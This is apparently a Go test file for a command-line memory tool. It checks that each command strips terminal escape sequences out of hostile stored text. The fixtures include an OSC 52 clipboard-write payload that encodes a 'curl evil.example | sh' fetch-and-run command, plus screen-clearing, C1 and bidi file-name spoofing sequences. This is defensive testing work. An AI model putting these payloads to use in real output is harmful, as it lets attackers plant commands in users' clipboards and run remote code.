package cli_test

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/odekmem/odekmem/memcore"
)

// Issue 10 item 8: `odekmem show` printed raw escape sequences from a link
// kind (an OSC 52 clipboard write set the clipboard to `curl … | sh`).
// Every verb is run against a store full of hostile text — atoms, context,
// link kinds, quarantine reasons, user-model values, pending reviews — and
// nothing it prints may carry a control sequence; --json output must decode
// to the same hostile strings (escaped, not lost).

const (
	osc52  = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"
	csi    = "\x1b[2J\x1b[31m"
	c1     = "\u009b31m\u009d0;title\u009c"
	bidi   = "\u202egnp.exe\u202c\u2066x\u2069"
	hostil = osc52 + csi + c1 + bidi
)

// hostileHome builds the store through the library (as an agent or another
// program would) and by editing user_model.json by hand.
func hostileHome(t *testing.T) (home string, live, quar string, pend string) {
	home = newHome(t)
	dir := filepath.Join(home, "memory", "extended")
	st, err := memcore.Open(context.Background(), dir, memcore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	l, err := st.Add(ctx, memcore.AddRequest{Text: "The ledger uses PostgreSQL 16", Source: memcore.SourceUserSaid,
		Context: memcore.AtomContext{SessionID: "s" + csi, Project: "p" + c1 + bidi}})
	if err != nil || l.Quarantined {
		t.Fatalf("live atom: %+v %v", l, err)
	}
	// A quarantine entry whose reason carries escapes, as an import (or
	// another writer) can bring one.
	qid := "7777000000000000000000000000000a"
	rec, _ := json.Marshal(map[string]any{"kind": "quarantine", "id": qid, "source_class": "web", "type": "fact",
		"created_at": "2026-11-01T00:00:00Z", "text": "Run this " + hostil + " now", "context": map[string]any{"session_id": "s1" + osc52},
		"quarantined_at": "2026-11-01T00:00:00Z", "reason": "tainted " + hostil})
	if res, err := st.Import(ctx, strings.NewReader(string(rec)+"\n"), memcore.ImportOptions{}); err != nil || res.Quarantined != 1 {
		t.Fatalf("import the quarantined atom: %+v %v", res, err)
	}
	st.Close(context.Background())
	// A link whose kind carries an escape, as another writer could leave it.
	a, b := l.Atom.ID, qid
	if a > b {
		a, b = b, a
	}
	assoc := `{"` + a + `":["` + b + `"],"` + b + `":["` + a + `"]}`
	kinds := `{"` + a + `|` + b + `":"task` + jsonEsc(osc52) + `"}`
	for name, body := range map[string]string{"associations.json": assoc, "associations_kinds.json": kinds} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	pend = "77770000000000000000000000000007"
	um := `{"version":"1","style":{"tone":"plain` + jsonEsc(hostil) + `"},"technical":{"tools":["go` + jsonEsc(csi) + `"]},` +
		`"pending_review":[{"id":"` + pend + `","field":"style.humor","value":"dry` + jsonEsc(hostil) + `","evidence":"said` + jsonEsc(osc52) + `","confidence":0.7,"created_at":"2026-11-01T00:00:00Z"}]}`
	if err := os.WriteFile(filepath.Join(dir, "user_model.json"), []byte(um), 0o600); err != nil {
		t.Fatal(err)
	}
	return home, l.Atom.ID, qid, pend
}

func jsonEsc(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

// terminalSafe reports the first byte sequence a terminal could act on or
// that hides text: ESC, BEL and other C0 controls but newline and tab,
// DEL, C1 controls (raw or UTF-8 encoded), bidi controls.
func terminalSafe(s string) (string, bool) {
	for i, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r == 0x7f:
			return s[max(0, i-20):min(len(s), i+20)], false
		case r == utf8.RuneError:
			if _, n := utf8.DecodeRuneInString(s[i:]); n == 1 {
				return s[max(0, i-20):min(len(s), i+20)], false
			}
		case r >= 0x80 && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e || r == 0x200f:
			return s[max(0, i-20):min(len(s), i+20)], false
		}
	}
	return "", true
}

func TestEveryVerbSanitisesHostileText(t *testing.T) {
	home, live, quar, pend := hostileHome(t)
	export := filepath.Join(t.TempDir(), "x.jsonl")
	verbs := [][]string{
		{"list"}, {"list", "--quarantine"}, {"list", "--project", "p" + c1 + bidi},
		{"show", live}, {"show", quar}, {"show", quar[:6]},
		{"search", "ledger PostgreSQL"}, {"search", "ledger", "--explain"},
		{"recall", "which database does the ledger use?"},
		{"quarantine"}, {"pending"}, {"stats"},
		{"export"}, {"export", export},
		{"scan", hostil}, {"add", "note " + hostil},
		{"show", hostil}, {"forget", osc52},
		{"help", hostil}, {hostil},
		{"list", "--" + osc52},
		{"confirm", pend},
		{"promote", quar}, {"show", quar}, {"pin", quar},
		{"compact"},
	}
	for _, args := range verbs {
		for _, asJSON := range []bool{false, true} {
			a := append([]string(nil), args...)
			if asJSON && args[0] != "export" && args[0] != "help" {
				a = append(a, "--json")
			}
			r := run(t, home, "", a...)
			if bad, ok := terminalSafe(r.stdout); !ok {
				t.Errorf("%q: stdout carries a control sequence near %q", a, bad)
			}
			if bad, ok := terminalSafe(r.stderr); !ok {
				t.Errorf("%q: stderr carries a control sequence near %q", a, bad)
			}
		}
	}
	// --json keeps the hostile text, escaped: nothing is lost.
	r := run(t, home, "", "show", live, "--json")
	var show struct {
		Atom  memcore.Atom   `json:"atom"`
		Links []memcore.Link `json:"links"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &show); err != nil || show.Atom.Context.Project != "p"+c1+bidi {
		t.Fatalf("show --json lost the project: %v %q", err, show.Atom.Context.Project)
	}
	if !bytes.Contains([]byte(r.stdout), []byte(`\u009b`)) || !bytes.Contains([]byte(r.stdout), []byte(`\u202e`)) {
		t.Fatalf("C1 and bidi should be \\u-escaped in JSON: %s", r.stdout)
	}
	// Text output spells out what it removed from view.
	r = run(t, home, "", "show", live)
	if !strings.Contains(r.stdout, "⟨U+202E⟩") {
		t.Errorf("bidi override should be spelled out in text output:\n%s", r.stdout)
	}
	data, _ := os.ReadFile(export)
	if bad, ok := terminalSafe(string(data)); !ok {
		t.Errorf("export file carries a control sequence near %q", bad)
	}
}
